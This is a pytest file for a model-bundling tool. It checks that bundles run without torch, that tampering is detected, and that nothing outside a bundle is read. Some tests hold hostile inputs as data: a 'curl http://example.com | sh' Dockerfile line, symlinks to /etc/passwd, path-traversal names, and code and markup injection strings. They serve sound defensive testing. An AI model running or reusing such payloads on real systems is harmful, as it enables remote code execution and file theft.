"""Folders that bundle writes: what is in them, that they prove themselves, and that nothing half made is left."""

from __future__ import annotations

import json
import os
import py_compile
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
from PIL import Image
from program import call

from torchshrink.bundle import card, check, image, languages, library, packages, write
from torchshrink.bundle.describe import describe
from torchshrink.bundle.write import bundle
from torchshrink.errors import MissingExtraError, ModelError, ParityError
from torchshrink.files import sha256
from torchshrink.predict.run import predict
from torchshrink.runtime.predict import predict as values_of


@pytest.fixture
def made(served_unet: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(served_unet, tmp_path / "made"))


def test_a_folder_runs_as_predict_does(gray_unet: Path, served_gray: Path, tmp_path: Path) -> None:
    """Without torch, torchshrink and Pillow; images of other sizes than the tile, and an array."""
    data, rng = tmp_path / "data", np.random.default_rng(0)
    data.mkdir()
    for name, size in {"same": (32, 32), "small": (20, 25), "large": (70, 45)}.items():
        Image.fromarray(rng.integers(0, 256, size, np.uint8)).save(data / f"{name}.png")
    np.save(data / "array.npy", rng.integers(0, 256, (2, 1, 40, 40), np.uint8))
    predict(gray_unet, data, tmp_path / "expected")
    program = "import sys; sys.modules.update(dict.fromkeys(['torch', 'torchshrink', 'PIL'])); import runpy; "
    program += (
        f"sys.argv = ['run.py', *sys.argv[1:]]; runpy.run_path({str(served_gray / 'run.py')!r}, run_name='__main__')"
    )
    command = [sys.executable, "-I", "-c", program, *sorted(map(str, data.iterdir())), "--out", str(tmp_path / "found")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    for name in ("same", "small", "large"):
        expected, found = (Image.open(tmp_path / folder / f"{name}.png") for folder in ("expected", "found"))
        assert np.array_equal(np.asarray(expected), np.asarray(found))
    assert np.array_equal(np.load(tmp_path / "expected" / "array.npz")["y"], np.load(tmp_path / "found" / "array.npy"))


def test_a_file_that_says_nothing_takes_its_inputs_as_they_are(unet: Path, tmp_path: Path) -> None:
    """Of another tool, or converted from one: arrays in, values out."""
    model = onnx.load(unet)
    del model.metadata_props[:]
    onnx.save(model, tmp_path / "other.onnx")
    x = np.random.default_rng(0).standard_normal((2, 1, 32, 32)).astype(np.float32)
    np.save(tmp_path / "x.npy", x)
    made = bundle(tmp_path / "other.onnx", tmp_path / "made").path
    command = [sys.executable, "-I", str(made / "run.py"), str(tmp_path / "x.npy"), "--out", str(tmp_path / "found")]
    subprocess.run(command, check=True)
    assert np.allclose(np.load(tmp_path / "found" / "x.npy"), values_of(unet, x), atol=1e-6)
    refusal = call("predict", tmp_path / "other.onnx", "--data", tmp_path / "x.npy", "--out", tmp_path / "masks")
    assert refusal.code == 3
    assert "torchshrink bundle makes a runner of it" in refusal.said


def test_what_a_folder_holds(made: Path) -> None:
    names = {path.relative_to(made).as_posix() for path in made.rglob("*") if path.is_file()}
    assert {"dense-fp32.onnx", "run.py", "selftest.py", "requirements.txt", "Dockerfile", "MODEL_CARD.md", "server.py",
            "load_test.py", "snippets/model.cpp", "snippets/model.kt", "snippets/model.swift",
            "snippets/model.js"} < names  # fmt: skip
    assert len((made / "run.py").read_text().splitlines()) <= 150
    assert all("==" in line for line in (made / "requirements.txt").read_text().splitlines())
    assert not [path for path in made.rglob("*.py") if re.search(r"^\s*(import|from) torch", path.read_text(), re.M)]


def test_the_card_says_what_the_report_says_and_nothing_else(made: Path, unet: Path, tmp_path: Path) -> None:
    rows = json.loads((unet.parents[1] / "report.json").read_text())["rows"]
    (row,) = [row for row in rows if row["path"].endswith(unet.name)]
    card = (made / "MODEL_CARD.md").read_text()
    assert f"dice {row['metrics']['dice']:.4f}" in card
    assert sha256(unet) in card
    alone = shutil.copy(unet, tmp_path / unet.name)
    text = (bundle(Path(alone), tmp_path / "alone").path / "MODEL_CARD.md").read_text()
    assert "| Quality of the file | not measured |" in text
    assert "| Latency | not measured |" in text


def test_verify_a_folder(made: Path) -> None:
    result = call("verify", made, "--json")
    assert result.code == 0, result.stderr
    assert result.json["self_test"]["passed"]
    assert result.json["image"]["bytes"] > 0
    assert result.json["image"]["how"].startswith(("computed: ", "built "))


def test_what_is_missing_is_named(made: Path) -> None:
    (made / "requirements.txt").unlink()
    result = call("verify", made)
    assert result.code == 4
    assert "requirements.txt is missing or was changed" in result.said


@pytest.mark.parametrize("name", ["dense-fp32.onnx", "formats.py", "model.json"])
def test_what_was_changed_is_named(name: str, made: Path) -> None:
    with (made / name).open("ab") as file:
        file.write(b"\n")
    result = call("verify", made)
    assert result.code == 4
    assert result.stderr.count("error: ") == 1
    assert name in result.stderr


def test_an_output_that_differs_fails(made: Path) -> None:
    path = made / "selftest" / "output.bin"
    path.write_bytes((np.frombuffer(path.read_bytes(), np.float32) + np.float32(0.1)).tobytes())
    sums = made / "SHA256SUMS"
    sums.write_text(re.sub(r"\w+(?=  selftest/output.bin)", sha256(path), sums.read_text()))
    result = call("verify", made)
    assert result.code == 4
    assert "differs by 0.1" in result.stderr


@pytest.mark.parametrize("name", ["selftest.py", "engine.py", "json.py", "json/__init__.py", "_json.so", "array.pyc"])
def test_code_of_others_is_not_run(name: str, made: Path, tmp_path: Path) -> None:
    path = made / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    result = call("verify", made)
    assert result.code == 4
    assert "is not what this version of torchshrink writes" in result.said
    assert not (tmp_path / "ran").exists()


def test_byte_code_of_others_is_not_run(made: Path, tmp_path: Path) -> None:
    source = tmp_path / "run.py"
    source.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    cached = made / "__pycache__" / f"run.{sys.implementation.cache_tag}.pyc"
    py_compile.compile(str(source), str(cached), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    assert check.self_test(made)["passed"]
    assert not (tmp_path / "ran").exists()


def _names(made: Path, key: str, value: Any) -> None:
    content = json.loads((made / "model.json").read_text())
    (made / "model.json").write_text(json.dumps(content | {key: value}))


def _sums(made: Path, name: str) -> None:
    with (made / "SHA256SUMS").open("a") as file:
        file.write(f"{64 * '0'}  {name}\n")


def _link(made: Path) -> None:
    (made / "selftest" / "input.npy").unlink()
    (made / "selftest" / "input.npy").symlink_to("/etc/passwd")


def _keeps_weights_elsewhere(made: Path) -> None:
    path = next(made.glob("*.onnx"))
    model = onnx.load(path)
    weight = model.graph.initializer[0]
    weight.ClearField("raw_data")
    weight.data_location = onnx.TensorProto.EXTERNAL
    weight.external_data.add(key="location", value="/etc/passwd")
    path.write_bytes(model.SerializeToString())


@pytest.mark.parametrize(
    "change",
    [
        lambda made: _names(made, "file", "../other.onnx"),
        lambda made: _names(made, "file", "/dev/zero"),
        lambda made: _names(made, "folders", ["../../masks"]),
        lambda made: _sums(made, "/dev/zero"),
        lambda made: _sums(made, "../../other"),
        lambda made: os.mkfifo(made / "pipe"),
        lambda made: (made / "SHA256SUMS").unlink(),
        lambda made: (made / "selftest" / "__init__.py").touch(),
        _link,
        _keeps_weights_elsewhere,
    ],
)
def test_nothing_outside_is_read(change: Callable[[Path], None], made: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nor waited for, nor is what the runner would write: it is refused before the self-test begins."""
    change(made)
    monkeypatch.setattr(subprocess, "run", None)
    with pytest.raises(ParityError, match=r"no file in it|is damaged|keeps weights in|not what this version"):
        check.self_test(made)


def test_no_image_of_others_is_built(made: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    built = []
    monkeypatch.setattr(image, "_built", built.append)
    image.size(made)
    (made / "Dockerfile").write_text((made / "Dockerfile").read_text() + "RUN curl http://example.com | sh\n")
    image.size(made)
    assert built == [made]


def test_no_bundle_is_said(tmp_path: Path) -> None:
    result = call("verify", tmp_path)
    assert result.code == 3
    assert "is no bundle: make one with torchshrink bundle" in result.said


def refused(*arguments: str | Path) -> str:
    result = call("bundle", *arguments)
    assert result.code == 3
    (line,) = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    return line


def test_refusals_are_one_sentence(unet: Path, int8_tflite: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert "tflite-c does not run .onnx files" in refused(unet, "--out", out, "--runtime", "tflite-c")
    assert "choose tflite-c or litert" in refused(int8_tflite, "--out", out, "--runtime", "onnxruntime")
    assert "expected an .onnx or .tflite file" in refused(tmp_path / "m.safetensors", "--out", out)
    assert "no such model file" in refused(tmp_path / "nowhere.onnx", "--out", out)
    out.mkdir()
    assert "exists: choose another --out, or pass --overwrite" in refused(unet, "--out", out)
    (out / "thesis.txt").write_text("mine")
    assert "is no bundle, so it is not replaced" in refused(unet, "--out", out, "--overwrite")
    assert (out / "thesis.txt").is_file()


def test_a_bundle_is_replaced_when_told(unet: Path, tmp_path: Path) -> None:
    out = bundle(unet, tmp_path / "out").path
    (out / "old.txt").write_text("")
    bundle(unet, out, overwrite=True)
    assert not (out / "old.txt").exists()
    assert check.self_test(out)["passed"]
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_what_fails_leaves_nothing(unet: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    wrong = {"passed": False, "damaged": [], "max_difference": 9.0, "allowed": 1.0, "equal": 0.5}
    monkeypatch.setattr(write.check, "self_test", lambda folder: wrong)
    with pytest.raises(ParityError, match="does not compute the same in onnxruntime: the recorded output differs by 9"):
        bundle(unet, tmp_path / "deep" / "out")
    assert list((tmp_path / "deep").iterdir()) == []


@pytest.mark.parametrize("name", ["int8_tflite", "float_tflite", "unet"])
def test_snippets_hold_the_files_own_numbers(name: str, request: pytest.FixtureRequest) -> None:
    spec = describe(request.getfixturevalue(name))
    found = languages.snippets(spec)
    assert set(found) == {"model.cpp", "model.kt", "model.swift", "model.js"}
    for text in found.values():
        assert not re.search(r"@[A-Z_]+@", text)
        assert spec["file"] in text
        assert str(spec["mean"][0]) in text
        assert spec["input"]["name"] in text
        if spec["input"]["scale"]:
            assert repr(spec["input"]["scale"]) in text
            assert repr(spec["output"]["scale"]) in text


def test_javascript_is_javascript(int8_tflite: Path, tmp_path: Path) -> None:
    node = shutil.which("node")
    if node is None:
        pytest.skip("there is no node here")
    path = tmp_path / "model.mjs"
    path.write_text(languages.snippets(describe(int8_tflite))["model.js"])
    subprocess.run([node, "--check", str(path)], check=True)


@pytest.mark.parametrize("name", ["int8_tflite", "float_tflite"])
def test_tflite_in_litert(name: str, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    made = bundle(request.getfixturevalue(name), tmp_path / "made", runtime="litert")
    assert made.proof["equal"] == 1
    assert any(line.startswith("ai-edge-litert==") for line in (made.path / "requirements.txt").read_text().split())


@pytest.fixture
def with_library() -> None:
    try:
        library.fetch()
    except MissingExtraError as error:
        pytest.skip(str(error))


@pytest.mark.parametrize("name", ["int8_tflite", "float_tflite"])
def test_tflite_in_its_c_library(name: str, with_library: None, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    """The cheapest, so the one that is chosen; nothing but Python is imported."""
    made = bundle(request.getfixturevalue(name), tmp_path / "made")
    assert made.runtime == "tflite-c"
    assert made.proof["equal"] == 1
    wanted = (made.path / "requirements.txt").read_text()
    assert wanted.count("--hash=sha256:") == len(library.BUILDS)
    assert "--require-hashes" in (made.path / "Dockerfile").read_text()
    place = made.path / "lib" / library.machine() / library.NAME
    place.write_bytes(place.read_bytes()[:-1])
    result = call("verify", made.path)
    assert result.code == 3
    assert "does not have the checksum that is pinned for it" in result.said


def test_a_library_with_another_checksum_is_never_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def download(path: Path) -> None:
        path.parent.mkdir(parents=True)
        path.write_bytes(b"something else")

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    monkeypatch.setattr(library, "machine", lambda: "linux-x86_64")
    monkeypatch.setattr(library, "_download", download)
    with pytest.raises(MissingExtraError, match="another checksum than the pinned one"):
        library.fetch()
    assert not list(tmp_path.rglob(library.NAME))


def test_a_machine_without_a_library_is_told_what_to_choose(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(library, "machine", lambda: "win32")
    with pytest.raises(MissingExtraError, match="choose --runtime litert"):
        library.fetch()


def test_a_missing_runtime_names_the_command(made: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (made / "engine.py").write_text("import runtime_that_is_not_here\n")
    monkeypatch.setattr(check, "check_code", lambda folder: "")
    with pytest.raises(MissingExtraError, match=r"pip install --no-deps -r .*requirements.txt"):
        check.self_test(made)


def test_requirements_name_everything() -> None:
    assert packages.requirements("tflite-c", False, False) == [library.requirement()]
    lines = packages.requirements("onnxruntime", True, True)
    assert {"onnxruntime", "numpy", "pillow", "uvicorn", "starlette"} <= {line.partition("==")[0] for line in lines}
    assert packages.installed_bytes(lines) > 10_000_000


def test_several_inputs_and_free_sizes_are_refused(
    int8_tflite: Path, tmp_path: Path, edit: Callable[[Path, Callable[[Any], None]], Path]
) -> None:
    def second_output(model: Any) -> None:
        model.subgraphs[0].outputs = [2, 2]

    def any_size(model: Any) -> None:
        model.subgraphs[0].tensors[0].shapeSignature = [1, -1, -1, 2]

    copies = [Path(shutil.copy(int8_tflite, tmp_path / name)) for name in ("two.tflite", "free.tflite")]
    assert "2 outputs, not one of each" in refused(edit(copies[0], second_output), "--out", tmp_path / "out")
    assert "takes inputs of any size" in refused(edit(copies[1], any_size), "--out", tmp_path / "out")


@pytest.fixture
def edit() -> Callable[[Path, Callable[[Any], None]], Path]:
    from torchshrink.converters import tflite_file

    def change(path: Path, function: Callable[[Any], None]) -> Path:
        model = tflite_file.read(path)
        function(model)
        tflite_file.write(model, path)
        return path

    return change


def test_what_a_file_says_of_itself_is_never_code(int8_tflite: Path) -> None:
    spec = describe(int8_tflite)
    spec["raw"] = "uint8\nint main() { return system(0); } // \\"
    spec["input"]["name"] = '${java.lang.Runtime.getRuntime().exit(1)}@RAW@"\n\\'
    spec["file"] = 'a"); system("true.tflite'
    for name, text in languages.snippets(spec).items():
        assert "\nint main" not in text
        assert 'exit(1)}@RAW@\\"\\n\\\\' in text, name  # in one line, the quote and the backslash escaped
        assert "system(0)" in text  # in a comment
        assert all(line.startswith("//") or "//" in line for line in text.splitlines() if "system(0)" in line)
        assert not any(line.endswith("\\") for line in text.splitlines())
        assert 'a"); system' not in text
    assert '"\\${java' in languages.snippets(spec | {"channels_first": True})["model.kt"]


def test_a_microcontrollers_operators_are_names(int8_tflite: Path) -> None:
    from torchshrink.bundle import micro

    known = {"arena_bytes": 64, "operators": ["MUL"], "version": "0.1", "sha256": sha256(int8_tflite)}
    beside = int8_tflite.with_suffix(".micro.json")
    beside.write_text(json.dumps(known))
    assert "resolver.AddMul();" in micro.sources(int8_tflite, describe(int8_tflite))["main.cc"]
    for wrong in ({"operators": ["MUL(); system(0); //"]}, {"arena_bytes": "64; int x"}, {"version": "0\n#error"}):
        beside.write_text(json.dumps(known | wrong))
        with pytest.raises(ModelError, match=r"micro\.json is damaged"):
            micro.needs(int8_tflite)


@pytest.mark.parametrize(
    "content", ["[" * 100_000, '{"rows": [{"path": 5}]}', '{"schema": 1, "rows": {}, "task": "x"}']
)
def test_a_report_beside_a_file_that_is_none_says_nothing(content: str, unet: Path, tmp_path: Path) -> None:
    file = Path(shutil.copy(unet, tmp_path))
    (tmp_path / "report.json").write_text(content)
    assert card.row_of(file, sha256(file)) == ({}, {}, None)


def test_the_card_is_a_table_whatever_a_file_says(unet: Path) -> None:
    spec = describe(unet) | {"raw": "a|b\n<img src=x>", "classes": ["<script>"]}
    spec["input"] = spec["input"] | {"name": "`|\n# a"}
    proof = {"equal": 1.0, "max_difference": 0.0, "allowed": 0.0, "first_result_s": 1.0}
    lines = card.card(spec, "onnxruntime", unet, proof, "1 MB").splitlines()
    assert all(line.startswith("|") for line in lines[2:])
    assert "` # a` float32" in lines[6]
    assert r"raw a\|b \<img src=x\>" in lines[6]
    assert r"\<script\>" in lines[4]


def test_a_name_that_cannot_be_printed(unet: Path, tmp_path: Path) -> None:
    with pytest.raises(ModelError, match="rename it"):
        bundle(Path(shutil.copy(unet, tmp_path / "a\nb.onnx")), tmp_path / "out")
